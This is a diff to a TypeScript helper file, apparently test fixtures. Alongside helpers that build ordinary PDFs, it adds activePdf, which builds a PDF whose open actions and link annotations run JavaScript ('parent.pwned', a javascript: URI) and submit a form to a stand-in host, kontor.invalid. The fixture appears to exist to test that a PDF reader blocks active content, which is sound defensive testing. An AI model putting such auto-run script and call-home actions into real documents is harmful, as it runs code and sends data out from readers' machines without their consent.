@@ -2,7 +2,7 @@
 import { randomBytes } from 'node:crypto';
 import { readFile } from 'node:fs/promises';
 import { crc32, deflateSync } from 'node:zlib';
-import { PDFDocument, StandardFonts } from 'pdf-lib';
+import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
 import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
 
 /** The text of a PDF file, pieces in the order of the file, white space between them folded to one space. */
@@ -26,6 +26,33 @@ export async function largePdf(line: string, mebibytes: number): Promise<Buffer>
     const image = await pdf.embedPng(noisePng(592));
     pdf.addPage().drawImage(image, { x: 0, y: 0, width: 592, height: 592 });
   }
+  return Buffer.from(await pdf.save());
+}
+
+/** A PDF that would run script, call home and submit a form when it is opened, wherever a reader lets it. */
+export async function activePdf(): Promise<Buffer> {
+  const pdf = await PDFDocument.create();
+  const page = pdf.addPage();
+  page.drawText('active');
+  const { context, catalog } = pdf;
+  const script = 'app.alert(1); parent.pwned = 1; this.submitForm("http://kontor.invalid/form");';
+  const action = { Type: 'Action', S: 'JavaScript', JS: PDFString.of(script) };
+  catalog.set(PDFName.of('OpenAction'), context.obj(action));
+  const link = (uri: string) =>
+    context.register(
+      context.obj({
+        Type: 'Annot',
+        Subtype: 'Link',
+        Rect: [0, 0, 600, 800],
+        A: { Type: 'Action', S: 'URI', URI: PDFString.of(uri) },
+        AA: { PO: action },
+      }),
+    );
+  page.node.set(
+    PDFName.of('Annots'),
+    context.obj([link('javascript:parent.pwned=1'), link('http://kontor.invalid/')]),
+  );
+  page.node.set(PDFName.of('AA'), context.obj({ O: action }));
   return Buffer.from(await pdf.save());
 }
 
